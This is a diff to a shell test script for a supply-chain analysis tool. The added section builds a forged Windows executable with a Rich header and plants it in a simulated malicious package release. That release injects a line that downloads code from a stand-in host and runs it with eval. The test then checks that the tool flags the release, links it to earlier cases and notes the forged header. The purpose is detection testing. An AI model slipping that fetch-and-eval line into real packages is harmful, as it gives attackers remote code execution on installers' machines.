@@ -66,6 +66,42 @@ cp out a.json
 ask --knowledge stix.json
 same out a.json
 
+# ---- the same code with other names and another host, in another product; and who built what it brought
+mkdir built
+cat >pe.js <<'JS'
+// An empty Windows program with a Rich header: two tools, and a checksum of another file.
+const b = Buffer.alloc(0x400);
+b.write('MZ'); b.writeUInt32LE(0x100, 0x3c);
+const key = 0x12345678;
+[0x536e6144, 0, 0, 0, 0x01047809, 17, 0x00ff6030, 40].forEach((w, i) => b.writeUInt32LE((w ^ key) >>> 0, 0x80 + 4 * i));
+b.write('Rich', 0xa0); b.writeUInt32LE(key, 0xa4);
+b.write('PE\0\0', 0x100); b.writeUInt16LE(0x14c, 0x104); b.writeUInt32LE(1664179200, 0x108);
+b.writeUInt16LE(0xe0, 0x114); b.writeUInt16LE(0x102, 0x116); b.writeUInt16LE(0x10b, 0x118);
+b.writeUInt32LE(0x1000, 0x118 + 32); b.writeUInt32LE(0x200, 0x118 + 36); b.writeUInt32LE(0x2000, 0x118 + 56);
+b.writeUInt32LE(0x400, 0x118 + 60); b.writeUInt16LE(3, 0x118 + 68); b.writeUInt32LE(16, 0x118 + 92);
+require('fs').writeFileSync('built/tool.exe', b);
+JS
+node pe.js
+release other-old 3.0.0
+release other-new 3.0.1 "require('https').get('https://img.other.example/y', (answer) => answer.on('data', (part) => eval(part.toString())));"
+tar -xzf other-new.tgz && cp built/tool.exe package/ && tar -czf other-new.tgz package && rm -r package
+is 1 diff other-old.tgz other-new.tgz --format json
+cp out other.json
+valid assay.diff.v1 out
+ok 'what a program says of its builder is not told' jq -e '[.provenance.traces[] | .kind] | contains(["rich", "rich-checksum", "compiled"])' other.json
+is 0 report other.json --format json
+same out other.json
+is 0 case new C3 --store s.db --product other --now 2022-10-30T08:00:00Z
+is 0 case add C3 other.json --bad --store s.db --now 2022-10-30T09:00:00Z
+is 0 case show C3 --store s.db --format json
+valid assay.case.v1 out
+ok 'the case does not keep it' jq -e '.releases[] | select(.status == "bad") | .traces | length >= 3' out
+is 0 attribute C3 --store s.db --knowledge stix.json --format json
+valid assay.attribution.v1 out
+ok 'the code is not known again' jq -e '[.hypotheses[] | select(.is_none | not)][0] |
+	(.id == "case:C0" or .id == "case:C1") and any(.families[]; .family == "code_reuse" and .log10_lr > 0)' out
+ok 'a forged Rich header is no staging' jq -e '.staging | length == 1 and (.[0].what | contains("Rich"))' out
+
 # ---- into the report; and what is no knowledge
 is 0 report C1 --store s.db --attribution a.json
 has out 'not calibrated'
